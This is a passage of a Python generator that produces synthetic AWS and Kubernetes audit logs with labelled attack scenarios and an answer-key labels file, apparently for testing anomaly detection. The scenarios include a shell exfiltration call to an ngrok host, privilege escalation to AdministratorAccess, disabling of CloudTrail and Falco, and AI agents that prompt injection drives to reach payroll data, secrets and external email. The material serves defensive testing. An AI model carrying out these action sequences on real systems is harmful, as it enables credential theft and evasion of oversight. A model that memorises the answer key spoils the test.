                    E(t + 2000, "tool:crm.get_payment_methods", "crm/customers/payment_methods", ip=uip, net="eks-prod-use1", ua=uua, records=5)
                elif fam == "api":
                    if ident.arch == "mesh_service":
                        E(t, "GET /v1/users/{id}/pii", "users.users.svc.cluster.local/v1/users/usr_%d/pii" % r.randint(1, 5_000_000), ip=uip, net="eks-prod-use1", ua=uua, nbytes=r.randint(2000, 9000))
                    else:
                        E(t, "GET /v1/customers/{id}", "api.acme-pay.com/v1/customers/cus_%s" % rstr(r, B62, 14), ip=uip, ua=uua, records=1, nbytes=r.randint(2000, 9000))
                elif ident.arch == "secrets_sync":
                    E(t, "secretsmanager:GetSecretValue", "arn:aws:secretsmanager:us-east-1:%s:secret:%s-%s" % (acct, r.choice(["prod/root-db", "stripe/live-secret", "okta/api-admin", "payments/hsm-pin", "github/deploy-key"]), rstr(r, B62, 6)), ip=uip, ua=uua)
                else:
                    E(t, "s3:GetObject", "arn:aws:s3:::acme-prod-finance-exports/ledger/%s/%s.csv.gz" % (time.strftime("%Y-%m", time.gmtime(t // 1000 - r.randint(0, 700) * 86400)), uuid(r)),
                      ip=uip, ua=uua, nbytes=r.randint(5, 60) * 1_000_000)
        desc = "~%d/h extra reads of sensitive data over %dh (%d events)" % (per_h, hours, cnt)
    elif kind == "agent_overreach":
        k = {"subtle": r.randint(2, 5), "moderate": r.randint(6, 15), "loud": r.randint(20, 45)}[level]
        sess = "sess_" + rstr(r, B62, 16)
        if ident.arch == "support_copilot":
            choices = [("tool:hr.get_employee", lambda: "hr/employees/emp_%d" % r.randint(1000, 9999)),
                       ("tool:sql.query", lambda: "warehouse/finance.payroll"),
                       ("tool:payments.get_card", lambda: "payments/cards/card_%s" % rstr(r, B62, 14)),
                       ("tool:email.send", lambda: "smtp/external/%s@%s" % (rstr(r, "abcdefghijk", 7), r.choice(["protonmail.com", "gmail.com"]))),
                       ("tool:crm.get_customer", lambda: "crm/customers/cus_%s" % rstr(r, B62, 14))]
            for _ in range(k):
                a, d = r.choice(choices)
                t += r.randint(1000, 8000)
                E(t, a, d(), "denied" if r.random() < 0.15 else None, ip=uip, net="eks-prod-use1", ua=uua, attrs={"session": sess, "model": ident.model})
            desc = "copilot session (prompt injection in ticket) calls hr/payroll/cards/email tools it never used, %d calls" % k
        else:
            choices = [("tool:fs.read", lambda: "github.com/acme/infra-secrets/%s" % r.choice([".env.prod", "terraform.tfvars", "vault/root-token", "k8s/secrets.yaml"])),
                       ("git:clone", lambda: "github.com/acme/" + r.choice(["infra-secrets", "payments-core", "terraform-live"])),
                       ("tool:shell.exec", lambda: "sandbox/shell/curl -sX POST https://%s.ngrok.app" % rstr(r, "abcdefgh0123456789", 10)),
                       ("git:push", lambda: "github.com/acme/payments-core@refs/heads/main")]
            for _ in range(k):
                a, d = r.choice(choices)
                t += r.randint(1500, 15000)
                E(t, a, d(), "denied" if r.random() < 0.2 else None, ip="10.60.%d.%d" % (r.randint(0, 255), r.randint(1, 254)), net="agent-sandbox", ua=uua, attrs={"session": sess})
            desc = "coding agent reads secrets repo, runs shell exfil, pushes to main; %d calls" % k
    elif kind == "off_hours_new_write":
        k = {"subtle": r.randint(3, 6), "moderate": r.randint(8, 15), "loud": r.randint(20, 40)}[level]
        if fam == "git":
            for _ in range(k):
                t += r.randint(2000, 30000)
                rep = r.choice(["acme/deploy-configs", "acme/terraform-live", "acme/payments-core"])
                E(t, r.choice(["git:push", "PUT /repos/{owner}/{repo}/contents/{path}"]), "github.com/%s@refs/heads/%s" % (rep, r.choice(["main", "release"])),
                  ip="%d.%d.%d.%d" % (r.choice([20, 13, 40]), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)), ua=uua)
            desc = "bot pushes to unrelated repos' protected branches at %s UTC" % iso(t0)[11:16]
        else:
            ip = priv_ip(r, "10.40") if ident.arch == "tf_deployer" else uip
            tgt = r.choice(["arn:aws:s3:::acme-prod-artifacts/releases/latest/bootstrap.sh", "arn:aws:lambda:us-east-1:%s:function:auth-authorizer" % acct,
                            "arn:aws:s3:::acme-prod-cdn-assets/js/checkout.%s.js" % rstr(r, HEX, 8)])
            acts = {"lambda": ["lambda:UpdateFunctionCode", "lambda:GetFunction", "lambda:PublishVersion"], "s3": ["s3:PutObject", "s3:GetObject", "s3:PutObjectAcl"]}["lambda" if "lambda" in tgt else "s3"]
            for i in range(k):
                t += r.randint(2000, 40000)
                E(t, acts[0] if i == 0 else r.choice(acts), tgt, ip=ip, net=getattr(ident, "runner_net", None), ua=uua, nbytes=r.randint(2000, 90000))
            desc = "job runs at %s UTC (never active then) and writes to %s" % (iso(t0)[11:16], tgt)
    elif kind == "privilege_escalation":
        if fam == "k8s":
            seq = [("create clusterrolebindings", "clusterrolebindings/system-monitoring-%s" % rstr(r, K8S_ALNUM, 5)),
                   ("create serviceaccounts/token", "kube-system/serviceaccounts/clusterrole-aggregation-controller"),
                   ("create secrets", "kube-system/secrets/ops-%s-token" % rstr(r, K8S_ALNUM, 5)), ("get secrets", "kube-system/secrets/ops-token")]
            seq = seq[:{"subtle": 2, "moderate": 3, "loud": 4}[level]]
            for a, d in seq:
                t += r.randint(1000, 30000)
                E(t, a, d, ip=uip, net="eks-" + getattr(ident, "cluster", "prod-use1"), ua=uua)
            desc = "binds cluster-admin to a new binding and mints a token"
        else:
            user = r.choice(["ci-legacy", "svc-reporting", "backup-admin", "jenkins"])
            seq = [("iam:CreateAccessKey", "arn:aws:iam::%s:user/%s" % (acct, user)),
                   ("iam:AttachUserPolicy", "arn:aws:iam::%s:user/%s" % (acct, user)),
                   ("iam:AttachRolePolicy", ident.name if ident.name.startswith("arn:") else "arn:aws:iam::%s:role/eso" % acct),
                   ("iam:CreateLoginProfile", "arn:aws:iam::%s:user/%s" % (acct, user)),
                   ("iam:PutRolePolicy", "arn:aws:iam::%s:role/%s" % (acct, r.choice(["admin", "breakglass"]))),
                   ("iam:UpdateAssumeRolePolicy", "arn:aws:iam::%s:role/OrganizationAccountAccessRole" % acct)]
            seq = seq[:{"subtle": 2, "moderate": 3, "loud": 6}[level]]
            for a, d in seq:
                t += r.randint(1000, 30000)
                E(t, a, d, ip=uip, ua=uua, attrs={"policy_arn": "arn:aws:iam::aws:policy/AdministratorAccess"} if "Attach" in a else None)
            desc = "creates access key for %s and attaches AdministratorAccess" % user
    elif kind == "defense_evasion":
        if fam == "k8s":
            seq = [("delete daemonsets", "falco/daemonsets/falco"), ("patch daemonsets", "logging/daemonsets/fluent-bit"),
                   ("delete validatingwebhookconfigurations", "validatingwebhookconfigurations/gatekeeper-validating-webhook-configuration")]
            seq = seq[:{"subtle": 1, "moderate": 2, "loud": 3}[level]]
            for a, d in seq:
                t += r.randint(2000, 20000)
                E(t, a, d, ip=uip, net="eks-" + getattr(ident, "cluster", "prod-use1"), ua=uua)
            desc = "deletes falco / scales down log shipping / removes admission webhook"
        else:
            seq = [("cloudtrail:StopLogging", "arn:aws:cloudtrail:us-east-1:%s:trail/org-trail" % acct),
                   ("ec2:DeleteFlowLogs", "ec2.us-east-1.amazonaws.com"),
                   ("guardduty:UpdateDetector", "arn:aws:guardduty:us-east-1:%s:detector/%s" % (acct, rstr(r, HEX, 32))),
                   ("logs:DeleteLogGroup", "arn:aws:logs:us-east-1:%s:log-group:/aws/cloudtrail/org" % acct),
                   ("cloudtrail:DeleteTrail", "arn:aws:cloudtrail:us-east-1:%s:trail/org-trail" % acct)]
            r.shuffle(seq)
            seq = seq[:{"subtle": 1, "moderate": 2, "loud": 5}[level]]
            for a, d in seq:
                t += r.randint(1000, 60000)
                E(t, a, d, ip=uip, ua=uua)
            desc = "disables audit: %s" % ", ".join(a for a, _ in seq)
    return "[%s] %s" % (level, desc)


def attack_start(ident, kind, d, r):
    base = ident.g.fleet.start + d * DAY
    if kind == "off_hours_new_write":
        if hasattr(ident, "hour"):  # daily cron/backup: a different hour of the night
            h = r.choice([h for h in range(24) if min(abs(h - ident.hour), 24 - abs(h - ident.hour)) >= 3 and 0 <= (h + ident.tz) % 24 <= 6] or [(3 - ident.tz) % 24])
            return base + h * HOUR + r.randint(0, 59) * MIN
        # an hour at which this identity is (almost) never active, local night
        quiet = [h for h in range(24) if ident.hour_w[d % 7][h] < 0.05 and h != getattr(ident, "hour", -1)]
        h = r.choice(quiet) if quiet else (3 - ident.tz) % 24
        return base + h * HOUR + r.randint(0, 59) * MIN
    if kind == "stolen_credentials":
        return base + r.randint(0, 23) * HOUR + r.randint(0, 59) * MIN
    # otherwise during the identity's active hours
    row = ident.hour_w[d % 7]
    h = r.choices(range(24), [w + 0.01 for w in row])[0]
    return base + h * HOUR + r.randint(0, 59) * MIN


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--identities", type=int, default=300)
    ap.add_argument("--days", type=int, default=14)
    ap.add_argument("--events", required=True)
    ap.add_argument("--labels", required=True)
    a = ap.parse_args()
    g = Gen(a.seed, a.identities, a.days)
    r = g.rng
    f = g.fleet

    # fleet
    total_w = sum(w for _, w in ARCHES)
    idents, names = [], set()
    for i in range(a.identities):
        cls = r.choices([c for c, _ in ARCHES], [w for _, w in ARCHES])[0]
        for attempt in range(50):
            team = r.choice(TEAMS) if attempt < 20 else "%s%d" % (r.choice(TEAMS), attempt)
            ident = cls(g, i * 100 + attempt, team)
            if ident.name not in names:
                break
        names.add(ident.name)
        if r.random() < 0.12:  # new service mid-fleet
            ident.birth = f.start + r.randint(1, max(1, a.days - 4)) * DAY + r.randint(8, 18) * HOUR
        if r.random() < 0.05:  # retired
            ident.death = min(f.end, max(ident.birth + 4 * DAY, f.start + r.randint(5, max(5, a.days)) * DAY - r.randint(0, 12) * HOUR))
        idents.append(ident)
    # two very hot identities (heavy tail)
    hot = [x for x in idents if x.arch in ("k8s_controller", "log_shipper", "mesh_service")]
    hot.sort(key=lambda x: -x.daily)
    for x, v in zip(hot[:2], (30000, 15000)):
        x.daily = v

    # benign operator debugging sessions from the VPN with the CLI (one-off novelty)
    debug = {}
    for x in idents:
        if isinstance(x, AwsIdent) and r.random() < 0.06:
            debug[x.name] = (r.randint(1, a.days - 1), r)

    # attacks
    n_atk = max(1, round(a.identities / 12))
    kinds = list(KIND_ELIGIBLE)
    plan = []
    used = set()
    for i in range(n_atk):
        kind = kinds[i % len(kinds)] if i < len(kinds) else r.choice(kinds)
        for _ in range(200):
            x = r.choice(idents)
            if x.arch not in KIND_ELIGIBLE[kind] or x.name in used:
                continue
            if kind == "off_hours_new_write" and (getattr(x, "hourly", False)):
                continue
            lo = max(3, (x.birth - f.start) // DAY + 3)
            hi = min(a.days - 1, (x.death - f.start) // DAY - 1)
            if lo > hi:
                continue
            d = r.randint(lo, hi)
            x.atk_t = f.start + d * DAY
            t0 = attack_start(x, kind, d, r)
            if not (x.birth + 3 * DAY <= t0 < x.death - 2 * HOUR):
                continue
            level = r.choices(["subtle", "moderate", "loud"], [0.35, 0.35, 0.3])[0]
            used.add(x.name)
            plan.append((t0, d, x, kind, level))
            break
    plan.sort(key=lambda p: p[0])
    attacks = []
    for i, (t0, d, x, kind, level) in enumerate(plan):
        attacks.append({"id": "atk-%02d" % (i + 1), "kind": kind, "identity": x.name, "_t0": t0, "_d": d, "_x": x, "_level": level})

    out = open(a.events, "w")
    carry = []
    for d in range(a.days):
        for x in idents:
            if x.alive_day(d):
                x.gen_day(d)
                dd = debug.get(x.name)
                if dd and dd[0] == d:
                    rr = x.rng
                    t = f.start + d * DAY + ((15 - x.tz) % 24) * HOUR + rr.randint(0, 59) * MIN
                    ip = "10.8.%d.%d" % (rr.randint(0, 15), rr.randint(2, 250))
                    for act in rr.sample(["sts:GetCallerIdentity", "s3:ListObjectsV2", "logs:FilterLogEvents", "iam:SimulatePrincipalPolicy", "lambda:GetFunction", "s3:GetObject"], rr.randint(2, 5)):
                        t += rr.randint(5000, 120000)
                        g.emit(x, t, act, "%s.us-east-1.amazonaws.com" % act.split(":")[0], None, ip, "corp-vpn", "aws-cli/2.17.20 Python/3.11.9 Darwin/23.5.0 exe/x86_64 prompt/off command/" + act.split(":")[1].lower(),
                               attrs={"session": "jdoe-debug"})
                if r.random() < 0.004 and isinstance(x, AwsIdent):  # benign misconfig: denied burst on own usual action
                    t = f.start + d * DAY + r.randint(9, 17) * HOUR
                    for _ in range(r.randint(10, 60)):
                        t += r.randint(2000, 60000)
                        g.emit(x, t, "kms:Decrypt", "arn:aws:kms:us-east-1:%s:key/%s" % (x.acct, uuid(random.Random(x.team))), "denied", None, None, None)
        for atk in attacks:
            if atk["_d"] == d:
                atk["description"] = attack_events(g, atk["_x"], atk["kind"], atk["id"], atk["_t0"], atk["_level"])
        g.buf.extend(carry)
        g.buf.sort()
        cut = f.start + (d + 1) * DAY
        carry = [e for e in g.buf if e[0] >= cut]
        for e in g.buf:
            if e[0] < cut:
                out.write(e[2])
                out.write("\n")
                g.count += 1
        g.buf = []
    out.close()

    labels = {"generator": "indep/0.1", "seed": a.seed, "fleet_start": iso(f.start), "fleet_end": iso(f.end),
              "fleet_changes": [{"kind": k, "start": iso(s), "end": iso(e), "description": desc} for k, s, e, desc in f.changes],
              "identities": [], "attacks": []}
    for x in idents:
        if x.first is None:
            continue
        labels["identities"].append({"identity": x.name, "archetype": x.arch, "kind": x.kind, "first_active": iso(x.first), "last_active": iso(x.last)})
    for atk in attacks:
        sp = g.attack_spans.get(atk["id"])
        if not sp:
            continue
        labels["attacks"].append({"id": atk["id"], "kind": atk["kind"], "identity": atk["identity"], "start": iso(sp[0]), "end": iso(sp[1]),
                                  "description": atk["description"]})
    with open(a.labels, "w") as fh:
        json.dump(labels, fh, indent=1)
    print("events=%d identities=%d attacks=%d" % (g.count, len(labels["identities"]), len(labels["attacks"])))


if __name__ == "__main__":
    main()
